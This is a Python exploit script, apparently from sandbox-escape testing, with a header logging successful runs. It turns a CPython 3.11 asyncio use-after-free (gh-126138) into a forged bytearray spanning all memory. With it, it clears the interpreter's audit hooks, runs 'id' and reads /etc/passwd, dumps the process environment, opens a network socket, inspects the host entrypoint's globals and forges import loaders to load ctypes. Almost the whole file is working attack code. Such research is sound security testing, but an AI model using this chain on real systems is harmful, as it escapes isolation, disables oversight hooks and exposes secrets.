# family: wall (memory: an asyncio Task's cancel message freed while its step looks up cancel, gh-126138)   goal: env   interpreter: /usr/bin/python3
# (twelfth wall round, ok_01) FULL ESCAPE: asyncio Task's task_cancel_msg freed while the step looks up the
#        awaited object's "cancel" (gh-126138; fixed upstream in 3.12/3.13 only; not
#        guarded: the wall guards Future/Task remove_done_callback, _callbacks, __init__)
#        -> dangling message handed to the program's cancel -> raw memory -> hook list emptied
#
# Family: memory safety of CPython 3.11 (C module _asyncio), sibling of wall11 ok_02.
# Mechanism: task_step_handle_result_impl(), for an awaited Future-compatible object
#   whose task has task_must_cancel set, calls
#   PyObject_CallMethodOneArg(result, "cancel", task->task_cancel_msg) with the message
#   BORROWED. The method lookup runs our __getattribute__("cancel"), which calls
#   task.cancel(V()) again: Task.cancel first asks task_fut_waiter (= our object, whose
#   inner "cancel" returns False), then Py_XSETREF(task_cancel_msg, new): the first
#   message (an 80-byte GC block, V with six __slots__, held only by the task) is freed.
#   bytearray(FAKE) takes the block back with a fake PyByteArrayObject (ob_size 2**62,
#   ob_start NULL). C then calls our cancel(<dangling msg>): the program holds a
#   bytearray over all memory. The loop is our own class (asyncio.Task(loop=...)), the
#   step is called by hand: no socket, no import beyond asyncio. Then wall10/11's payload
#   unchanged (audit hook list ob_size = 0, everything after).
# Goals reached: audit hook removed; `id`; /etc/passwd; environment; AF_INET socket;
#   entrypoint frames and globals; native library (ctypes + libc).
# Plain python3: works in the image's 3.11.2 (docker run --rm --network none -i
#   --entrypoint python3 safe-exec-sandbox:r12 -I - < FILE): same output without the
#   hook lines. 3 of 3 sandbox runs succeeded.
#
# sb-run output (export SAFE_EXEC_IMAGE=safe-exec-sandbox:r12; build/sb-run --full FILE):
#   status: ok   exit_code: 0   
#   duration 644 ms, cpu 49 ms, memory peak 24400 KiB, fresh container
#   --- stdout (756 bytes)
#   bytearray of 0x4000000000000000 bytes at address 0
#   interp+3552: the interpreter's audit hooks: [function b'hook']
#   audit hook list emptied
#   uid=10001(sandbox) gid=10001(sandbox) groups=10001(sandbox)
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
#   b'PATH=/usr/local/bin:/usr/bin:/bin HOSTNAME=7208367906d0 LANG=C.UTF-8 HOME=/home/sandbox '
#   AF_INET socket: <socket.socket fd=3, family=2, type=1, proto=0, laddr=('0.0.0.0', 0)>
#   frame: run_user_code | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: runner | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: main | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: <module> | globals: None False
#   ctypes loaded, libc getpid() = 7 getuid() = 10001
#   --- stderr (0 bytes)
#
import sys
import asyncio
os = sys.modules["os"]
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")
got = []
steps = []
state = {"n": 0}
class Loop:
    def get_debug(self):
        return False
    def call_soon(self, fn, *args, **kw):
        steps.append(fn)
class FL:
    _asyncio_future_blocking = True
    def get_loop(self):
        return loop
    def add_done_callback(self, cb, context=None):
        pass
    def __await__(self):
        yield self
    def __getattribute__(self, name):
        if name == "cancel":
            state["n"] += 1
            if state["n"] == 1:
                task.cancel(V())          # C: result.cancel(m2) (False), then task_cancel_msg = m2: m1 freed
                keep.append(bytearray(FAKE))
                return lambda msg=None: got.append(msg)
            return lambda msg=None: False
        return object.__getattribute__(self, name)
async def main():
    task.cancel(V())                      # m1: only the task holds it; task_must_cancel = 1
    await FL()
loop = Loop()
task = asyncio.Task(main(), loop=loop)
steps.pop(0)()
mem = got[0]
print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
rd = lambda a: int.from_bytes(mem[a:a + 8], "little")
# image's /usr/bin/python3.11 (3.11.2): &_PyRuntime - &PyType_Type, main interpreter,
# audit_hooks (measured for wall7 ok_05 with ctypes outside the sandbox)
OFF_RT, OFF_INTERP, OFF_HOOKS = 1060224, 58936, (3552, 3880)
interp = id(type) + OFF_RT + OFF_INTERP
for off in OFF_HOOKS:
    lst = rd(interp + off)
    if not lst or rd(lst + 8) != id(list) or rd(lst + 16) != 1:
        continue
    fn = rd(rd(lst + 24))
    if rd(fn + 8) != id(type(rd)):
        continue
    name = rd(fn + 32)                                      # func_name
    text = bytes(mem[name + 48:name + 48 + rd(name + 16)])  # compact ASCII str
    print("interp+%d: the interpreter's audit hooks: [function %r]" % (off, text))
    if text == b"hook":
        mem[lst + 16:lst + 24] = bytes(8)                   # ob_size = 0: no hook
        print("audit hook list emptied", flush=True)
os.system("id; head -2 /etc/passwd")
print(open("/proc/self/environ", "rb").read().replace(b"\0", b" "))
socket = sys.modules["socket"]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); print("AF_INET socket:", s)
# frames and globals of the entrypoint (sys._getframe is no longer audited)
f = sys._getframe(0)
while f.f_back is not None:
    f = f.f_back
    print("frame:", f.f_code.co_name, "| globals:", f.f_globals.get("__file__"), "WALL_EXIT" in f.f_globals)
# a native library: _imp's loaders are the wall's stubs and the originals are gone;
# forged back with the memory view: a copy of a real _imp function object whose m_ml
# points at the method table entry of create_dynamic / exec_dynamic.
_imp = sys.modules["_imp"]
def entry(name):
    ml0 = rd(id(_imp.is_builtin) + 16)             # PyCFunctionObject.m_ml (imp_methods[])
    for k in range(0, 16):                          # the loaders follow is_builtin
        p = rd(ml0 + 32 * k)
        if p == 0:
            return None
        if bytes(mem[p:p + len(name) + 1]) == name + b"\0":
            return ml0 + 32 * k
keepalive = []
def forge(model, name):
    # 16 zero bytes (an untracked GC head), then a copy of the model with m_ml changed
    buf = bytearray(16) + bytearray(mem[id(model):id(model) + 56])
    buf[16:24] = (1 << 40).to_bytes(8, "little")
    buf[32:40] = entry(name).to_bytes(8, "little")
    keepalive.append(buf)
    addr = rd(id(buf) + 32) + 16                    # the bytearray's ob_start + 16
    holder = [None]
    mem[rd(id(holder) + 24):rd(id(holder) + 24) + 8] = addr.to_bytes(8, "little")
    return holder[0]
_imp.create_dynamic = forge(_imp._fix_co_filename, b"create_dynamic")   # METH_FASTCALL
_imp.exec_dynamic = forge(_imp.is_builtin, b"exec_dynamic")           # METH_O
ctypes = sys.modules["importlib"].import_module("ctypes")
libc = ctypes.CDLL("libc.so.6")
print("ctypes loaded, libc getpid() =", libc.getpid(), "getuid() =", libc.getuid())
sys.stdout.flush()
os._exit(0)
